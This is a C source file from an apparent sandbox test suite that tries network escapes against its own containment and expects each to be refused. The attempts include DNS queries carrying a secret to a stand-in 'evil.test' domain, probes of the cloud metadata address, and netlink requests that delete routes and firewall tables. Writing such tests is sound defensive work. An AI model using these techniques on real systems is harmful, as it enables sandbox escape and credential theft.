/* SPDX-License-Identifier: Apache-2.0 */

/*
 * cli/attack_road - group network: ways around the road, in a box that has one.
 *
 * Who serves the road here lets nothing through: it resets every connection and refuses every
 * name, so that being reset is the proof that a connection came to it and to nobody else. Nothing
 * is sent to an address outside of the machine.
 */
#include "cli/attack.h"
#include "sys/road.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#define WAIT_MS     2000
#define DNS_REFUSED 5

/* ---- who serves it ---- */

static struct {
	int tcp, dns, epoll;
} served = {-EBADF, -EBADF, -EBADF};

static int watch(int fd)
{
	struct epoll_event e = {.events = EPOLLIN, .data.fd = fd};

	return epoll_ctl(served.epoll, EPOLL_CTL_ADD, fd, &e);
}

static int road_open(int take_tcp, int take_dns, void *arg, struct err *err)
{
	(void)arg;
	served.tcp = take_tcp;
	served.dns = take_dns;
	served.epoll = epoll_create1(EPOLL_CLOEXEC);
	if (served.epoll < 0 || watch(take_tcp) < 0 || watch(take_dns) < 0)
		return err_sys(err, "serve the road");
	return served.epoll;
}

static bool road_serve(struct violation_list *v, void *arg)
{
	const struct linger reset = {.l_onoff = 1};
	struct sockaddr_in6 from;
	socklen_t from_n = sizeof(from);
	unsigned char query[512];
	ssize_t n;
	int fd;

	(void)v;
	(void)arg;
	/* cppcheck-suppress nullPointer ; nobody asks who calls */
	while ((fd = accept4(served.tcp, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		(void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		closep(&fd);
	}
	n = recvfrom(served.dns, query, sizeof(query), 0, (struct sockaddr *)&from, &from_n);
	if (n >= 12) {
		query[2] |= 0x80;
		query[3] = DNS_REFUSED;
		(void)sendto(served.dns, query, (size_t)n, 0, (struct sockaddr *)&from, from_n);
	}
	return true;
}

static void road_close(struct violation_list *v, void *arg)
{
	(void)v;
	(void)arg;
	closep(&served.tcp);
	closep(&served.dns);
	closep(&served.epoll);
}

const struct box_road attack_road = {.open = road_open, .serve = road_serve, .close = road_close};

/* ---- attacks ---- */

static socklen_t fill_address(const char *text, uint16_t port, struct sockaddr_storage *ret)
{
	struct sockaddr_in *four = (struct sockaddr_in *)ret;
	struct sockaddr_in6 *six = (struct sockaddr_in6 *)ret;

	memset(ret, 0, sizeof(*ret));
	if (inet_pton(AF_INET, text, &four->sin_addr) == 1) {
		four->sin_family = AF_INET;
		four->sin_port = htons(port);
		return sizeof(*four);
	}
	(void)inet_pton(AF_INET6, text, &six->sin6_addr);
	six->sin6_family = AF_INET6;
	six->sin6_port = htons(port);
	return sizeof(*six);
}

static int open_to(int type, const char *address, uint16_t port)
{
	struct sockaddr_storage at;
	socklen_t n = fill_address(address, port, &at);
	AUTO_FD int fd = socket(at.ss_family, type | SOCK_CLOEXEC, 0);

	if (fd < 0 || connect(fd, (struct sockaddr *)&at, n) < 0)
		return -errno;
	return TAKE_FD(fd);
}

/* Without the wall these would be packets on somebody's wire: that is enough to know. */
static bool is_host_network(const struct attack_ctx *c)
{
	char here[64] = "";

	return readlink("/proc/self/ns/net", here, sizeof(here) - 1) > 0 &&
	       strcmp(here, c->net_ns) == 0;
}

/* What comes back, or -errno. */
static ssize_t hear(int fd, void *to, size_t size)
{
	struct pollfd p = {.fd = fd, .events = POLLIN};
	ssize_t n;

	if (poll(&p, 1, WAIT_MS) != 1)
		return -ETIMEDOUT;
	n = recv(fd, to, size, 0);
	return n < 0 ? -errno : n;
}

static int connect_to(const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	AUTO_FD int fd = -EBADF;
	char byte;
	ssize_t n;

	if (is_host_network(c))
		return attack_broke(r, "the network namespace is the host's");
	fd = open_to(SOCK_STREAM, a->path, (uint16_t)a->arg[0]);
	n = fd < 0 ? fd : hear(fd, &byte, 1);
	if (n >= 0)
		return attack_broke(r, "%s answered", a->path);
	errno = (int)-n;
	return attack_refused(r, "connect to %s port %u", a->path, (unsigned)a->arg[0]);
}

static int send_to(const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	AUTO_FD int fd = -EBADF;
	char byte = 'x';
	ssize_t n;

	if (is_host_network(c))
		return attack_broke(r, "the network namespace is the host's");
	fd = open_to(SOCK_DGRAM, a->path, (uint16_t)a->arg[0]);
	n = fd < 0 ? fd : send(fd, &byte, 1, 0) < 0 ? -errno : hear(fd, &byte, 1);
	if (n >= 0)
		return attack_broke(r, "%s answered", a->path);
	errno = (int)-n;
	return attack_refused(r, "a datagram to %s port %u", a->path, (unsigned)a->arg[0]);
}

/* A name that carries a secret, asked of a server of the attacker's. */
static int ask_name(const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	AUTO_FD int fd = -EBADF;
	unsigned char q[300] = {0, 7, 1, 0, 0, 1};
	size_t n = 12, label = strnlen(c->secret, sizeof(c->secret));
	ssize_t got;

	if (is_host_network(c))
		return attack_broke(r, "the network namespace is the host's");
	fd = open_to(SOCK_DGRAM, a->path, 53);
	q[n++] = (unsigned char)label;
	memcpy(q + n, c->secret, label);
	n += label;
	memcpy(q + n, "\4evil\4test\0\0\1\0\1", 15);
	n += 15;
	got = fd < 0 ? fd : send(fd, q, n, 0) < 0 ? -errno : hear(fd, q, sizeof(q));
	if (got >= 12 && (q[3] & 15) != DNS_REFUSED)
		return attack_broke(r, "%s answered for the name", a->path);
	errno = got < 0 ? (int)-got : ECONNREFUSED;
	return attack_refused(r, "a name asked of %s", a->path);
}

static int transparent(const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	AUTO_FD int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int one = 1;

	(void)a;
	(void)c;
	if (fd < 0 || setsockopt(fd, SOL_IP, IP_TRANSPARENT, &one, sizeof(one)) < 0)
		return attack_refused(r, "IP_TRANSPARENT");
	return attack_broke(r, "a socket that the filter may choose");
}

static int listen_at(const char *address, uint16_t port, int type)
{
	struct sockaddr_storage at;
	socklen_t n = fill_address(address, port, &at);
	AUTO_FD int fd = socket(at.ss_family, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	int one = 1;

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
		setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof(one)) < 0 ||
		bind(fd, (struct sockaddr *)&at, n) < 0)
		return -errno;
	if (type == SOCK_STREAM && listen(fd, 8) < 0)
		return -errno;
	return TAKE_FD(fd);
}

static int beside(const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	AUTO_FD int fd = listen_at(a->path, (uint16_t)a->arg[0], (int)a->arg[1]);

	(void)c;
	if (fd >= 0)
		return attack_broke(r, "bound beside the road's port");
	errno = -fd;
	return attack_refused(r, "bind to %s port %u", a->path, (unsigned)a->arg[0]);
}

/* At the very address that somebody else in the box wants to reach. */
static int in_front(const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	AUTO_FD int fd = -EBADF;

	if (is_host_network(c))
		return attack_broke(r, "the network namespace is the host's");
	fd = listen_at(a->path, (uint16_t)a->arg[0], SOCK_STREAM);
	if (fd < 0) {
		errno = -fd;
		return attack_refused(r, "listen at %s", a->path);
	}
	(void)connect_to(a, c, r);
	/* cppcheck-suppress nullPointer ; nobody asks who calls */
	if (accept4(fd, NULL, NULL, SOCK_CLOEXEC) >= 0)
		return attack_broke(r, "caught a connection to %s", a->path);
	return r->verdict;
}

static int netlink(int protocol, const void *ask, size_t n, struct attack_report *r)
{
	AUTO_FD int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol);
	struct {
		struct nlmsghdr h;
		struct nlmsgerr e;
		char rest[256];
	} answer;

	if (fd < 0)
		return attack_refused(r, "netlink socket");
	if (send(fd, ask, n, 0) < 0)
		return attack_refused(r, "netlink send");
	if (hear(fd, &answer, sizeof(answer)) < (ssize_t)sizeof(answer.h) + 4)
		return attack_absent(r, "netlink answer");
	errno = -answer.e.error;
	return attack_reached(r, answer.e.error == 0 ? 0 : -1, "netlink");
}

static int delete_route(const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	struct {
		struct nlmsghdr h;
		struct rtmsg m;
	} ask = {.h = {.nlmsg_len = sizeof(ask),
			 .nlmsg_type = RTM_DELROUTE,
			 .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK},
		.m = {.rtm_family = AF_INET, .rtm_table = RT_TABLE_LOCAL, .rtm_type = RTN_LOCAL}};

	(void)a;
	(void)c;
	return netlink(NETLINK_ROUTE, &ask, sizeof(ask), r);
}

static int delete_filter(
	const struct attack *a, const struct attack_ctx *c, struct attack_report *r)
{
	struct part {
		struct nlmsghdr h;
		struct nfgenmsg g;
	};
	struct part parts[3];

	(void)a;
	(void)c;
	for (size_t i = 0; i < 3; i++)
		parts[i] = (struct part){
			.h = {.nlmsg_len = sizeof(parts[0]),
				.nlmsg_type = NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_DELTABLE,
				.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK}};
	parts[0].h.nlmsg_type = NFNL_MSG_BATCH_BEGIN;
	parts[2].h.nlmsg_type = NFNL_MSG_BATCH_END;
	parts[0].h.nlmsg_flags = parts[2].h.nlmsg_flags = NLM_F_REQUEST;
	parts[0].g.res_id = parts[2].g.res_id = htons(NFNL_SUBSYS_NFTABLES);
	return netlink(NETLINK_NETFILTER, parts, sizeof(parts), r);
}

#define CONNECT(address, port)                                                                     \
	.wall = WALL_NET, .try = connect_to, .path = (address), .arg = {(port)},                   \
	.flags = ATTACK_ROAD, .expect = {ECONNRESET, EAFNOSUPPORT, ENETUNREACH}
#define SEND(address, port)                                                                        \
	.wall = WALL_NET, .try = send_to, .path = (address), .arg = {(port)},                      \
	.flags = ATTACK_ROAD, .expect = {ECONNREFUSED, EAFNOSUPPORT, ENETUNREACH}
#define AS_ROOT ATTACK_AS_ROOT | ATTACK_ROAD

static const struct attack table[] = {
	{.name = "network/road-direct-address",
		CONNECT("93.184.216.34", 443),
		.success = "an address is reached without a name that was allowed"},
	{.name = "network/road-direct-address-ipv6",
		CONNECT("2606:2800:220:1::1", 443),
		.success = "an IPv6 address is reached without a name that was allowed"},
	{.name = "network/road-metadata-address",
		CONNECT("169.254.169.254", 80),
		.success = "the cloud's metadata service gives out credentials"},
	{.name = "network/road-private-address",
		CONNECT("10.0.0.1", 22),
		.success = "the private network is reached"},
	{.name = "network/road-mapped-address",
		CONNECT("::ffff:169.254.169.254", 80),
		.success = "an address in another form is another one"},
	{.name = "network/road-udp", SEND("93.184.216.34", 9999), .success = "datagrams get out"},
	{.name = "network/road-udp-ipv6",
		SEND("2606:2800:220:1::1", 9999),
		.success = "datagrams get out over IPv6"},
	{.name = "network/road-quic",
		SEND("93.184.216.34", 443),
		.success = "QUIC carries what nobody decided on"},
	{.name = "network/road-other-name-server",
		.wall = WALL_NET,
		.success = "names carry data to a server of the attacker's",
		.try = ask_name,
		.path = "8.8.8.8",
		.flags = ATTACK_ROAD,
		.expect = {ECONNREFUSED}},
	{.name = "network/road-ping",
		.wall = WALL_NET,
		.success = "echo requests carry data out",
		.try = attack_try_call,
		.call = "socket",
		.nr = SYS_socket,
		.arg = {AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP},
		.flags = AS_ROOT,
		.expect = {EACCES, EPERM}},
	{.name = "network/road-transparent-socket",
		.wall = WALL_CAPS,
		.success = "a socket of the box takes the road's connections",
		.try = transparent,
		.flags = AS_ROOT | ATTACK_CONTROL,
		.control_ns = CLONE_NEWNET},
	{.name = "network/road-port-beside",
		.wall = WALL_NET,
		.success = "the proxies' port is answered from inside",
		.try = beside,
		.path = "127.0.0.1",
		.arg = {ROAD_PORT, SOCK_STREAM},
		.flags = AS_ROOT,
		.expect = {EADDRINUSE}},
	{.name = "network/road-names-beside",
		.wall = WALL_NET,
		.success = "names are answered from inside",
		.try = beside,
		.path = "127.0.0.1",
		.arg = {53, SOCK_DGRAM},
		.flags = AS_ROOT,
		.expect = {EADDRINUSE}},
	{.name = "network/road-listen-in-front",
		.wall = WALL_NET,
		.success = "a listener inside catches what was meant for outside",
		.try = in_front,
		.path = "93.184.216.35",
		.arg = {8443},
		.flags = ATTACK_ROAD,
		.expect = {ECONNRESET}},
	{.name = "network/road-delete-route",
		.wall = WALL_CAPS,
		.success = "root of the box takes the road's routes away",
		.try = delete_route,
		.flags = AS_ROOT | ATTACK_CONTROL,
		.control_ns = CLONE_NEWNET},
	{.name = "network/road-delete-filter",
		.wall = WALL_SECCOMP,
		.success = "root of the box takes the road's filter away",
		.try = delete_filter,
		.flags = AS_ROOT | ATTACK_CONTROL,
		.control_ns = CLONE_NEWNET},
};

const struct attack_table attack_table_road = {table, sizeof(table) / sizeof(table[0])};
